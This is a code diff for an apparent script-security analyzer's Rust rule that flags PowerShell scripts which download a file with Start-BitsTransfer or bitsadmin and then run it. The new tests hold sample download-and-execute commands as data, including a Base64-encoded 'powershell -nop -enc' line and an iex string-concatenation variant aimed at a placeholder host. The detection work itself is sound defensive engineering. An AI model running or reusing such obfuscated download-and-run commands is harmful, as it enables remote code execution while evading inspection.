@@ -14,7 +14,7 @@ use std::collections::BTreeSet;
 patterns! {
     /// What becomes of files.
     pub(in crate::parse) STARTED;
-    DOWNLOAD_IS_RUN = "download-is-run", Information, "A file that a job brings is run by the same script: whatever the server sends is what runs here.", "Take it from an https address, and look at its signature or its hash before it runs.";
+    DOWNLOAD_IS_RUN = "download-is-run", Information, "A file that a job brings is run by the same script: whatever the server sends is what runs here.", "Make sure that its address is an https one, and look at its signature or its hash before it runs.";
 }
 
 /// What runs, opens or installs the file that is named behind it.
@@ -45,7 +45,12 @@ pub(super) fn started(source: &str, shell: Dialect, statements: &[Statement], op
     let first = statements.iter().map(|statement| statement.span.start).min();
     let mut names = BTreeSet::new();
     for statement in statements {
-        local_names(statement, source, shell, &mut names);
+        local_names(
+            statement,
+            |span| statement.outer(span).of(source),
+            shell,
+            &mut names,
+        );
     }
     let mut found = Vec::new();
     if names.is_empty() {
@@ -55,14 +60,7 @@ pub(super) fn started(source: &str, shell: Dialect, statements: &[Statement], op
         for line in lines(span.of(source)) {
             let line = line.shifted(span.start);
             let run = run(line.of(source), shell, &names);
-            found.extend(run.map(|name| {
-                let name = name.shifted(line.start);
-                let message = format!(
-                    "`{}` is a file that a job of this script brings, and this runs it.",
-                    name.of(source)
-                );
-                DOWNLOAD_IS_RUN.at(name, message, DOWNLOAD_IS_RUN.instead)
-            }));
+            found.extend(run.map(|name| is_run(name.shifted(line.start), source)));
         }
     }
     found.sort_by_key(|found| found.span);
@@ -70,8 +68,49 @@ pub(super) fn started(source: &str, shell: Dialect, statements: &[Statement], op
     found
 }
 
+/// What a text of PowerShell runs of the files that its own statements bring; places are those of the text.
+pub(super) fn in_text(text: &str, statements: &[&Statement]) -> Vec<Found> {
+    let place = |statement: &Statement| match &statement.called {
+        Called::Bitsadmin(call) => call.program,
+        Called::Cmdlet(call) => call.name,
+    };
+    let mut called: Vec<usize> = statements.iter().map(|one| place(one).start).collect();
+    called.sort_unstable();
+    let mut names = BTreeSet::new();
+    for statement in statements {
+        local_names(statement, |span| span.of(text), Dialect::PowerShell, &mut names);
+    }
+    let Some(first) = called.first().filter(|_| !names.is_empty()) else {
+        return Vec::new();
+    };
+    let is_call = |line: &Span| {
+        let next = called.partition_point(|start| *start < line.start);
+        called.get(next).is_some_and(|start| *start < line.end)
+    };
+    lines(text)
+        .filter(|line| line.start > *first && !is_call(line))
+        .filter_map(|line| {
+            let name = run(line.of(text), Dialect::PowerShell, &names)?;
+            Some(is_run(name.shifted(line.start), text))
+        })
+        .collect()
+}
+
+fn is_run(name: Span, source: &str) -> Found {
+    let message = format!(
+        "`{}` is a file that a job of this script brings, and this runs it.",
+        name.of(source)
+    );
+    DOWNLOAD_IS_RUN.at(name, message, DOWNLOAD_IS_RUN.instead)
+}
+
 /// The local names of a statement in lower case, as they are written and as what they hold.
-fn local_names(statement: &Statement, source: &str, shell: Dialect, names: &mut BTreeSet<String>) {
+fn local_names<'t>(
+    statement: &Statement,
+    as_written: impl Fn(Span) -> &'t str,
+    shell: Dialect,
+    names: &mut BTreeSet<String>,
+) {
     let is_local = |role: Role| {
         role.carries()
             .iter()
@@ -91,7 +130,7 @@ fn local_names(statement: &Statement, source: &str, shell: Dialect, names: &mut 
                 .iter()
                 .filter(|given| is_local(given.argument.role))
             {
-                add(statement.outer(given.span).of(source));
+                add(as_written(given.span));
                 add(&written(&given.text, shell));
             }
         }
@@ -101,7 +140,7 @@ fn local_names(statement: &Statement, source: &str, shell: Dialect, names: &mut 
                 .iter()
                 .filter(|given| is_local(given.parameter.role))
             {
-                add(statement.outer(given.span).of(source));
+                add(as_written(given.span));
                 for value in given.value.items() {
                     add(&written(&text(value, &Outer::default()), shell));
                 }
@@ -189,6 +228,9 @@ mod tests {
     use super::DOWNLOAD_IS_RUN;
     use crate::parse::{Reading, import};
 
+    /// `Start-BitsTransfer http://h/a C:\a.exe; & C:\a.exe`
+    const ENCODED: &str = "powershell -nop -enc UwB0AGEAcgB0AC0AQgBpAHQAcwBUAHIAYQBuAHMAZgBlAHIAIABoAHQAdABwADoALwAvAGgALwBhACAAQwA6AFwAYQAuAGUAeABlADsAIAAmACAAQwA6AFwAYQAuAGUAeABlAA==";
+
     #[test]
     fn what_a_job_brings_and_the_script_runs_is_told() {
         let rows: &[(&str, &[&str])] = &[
@@ -227,6 +269,17 @@ mod tests {
             (
                 "Start-BitsTransfer -Source http://h/a -Destination $out\n$p = Start-Process -FilePath $out -PassThru",
                 &["$out"],
+            ),
+            // In a text in Base64 it stands nowhere else.
+            (
+                ENCODED,
+                &[
+                    "UwB0AGEAcgB0AC0AQgBpAHQAcwBUAHIAYQBuAHMAZgBlAHIAIABoAHQAdABwADoALwAvAGgALwBhACAAQwA6AFwAYQAuAGUAeABlADsAIAAmACAAQwA6AFwAYQAuAGUAeABlAA==",
+                ],
+            ),
+            (
+                "iex ('Start-BitsTransfer http://h/a C:\\a.exe; Start' + '-Process C:\\a.exe')",
+                &["('Start-BitsTransfer http://h/a C:\\a.exe; Start' + '-Process C:\\a.exe')"],
             ),
             // It is looked at, moved, or run before.
             (
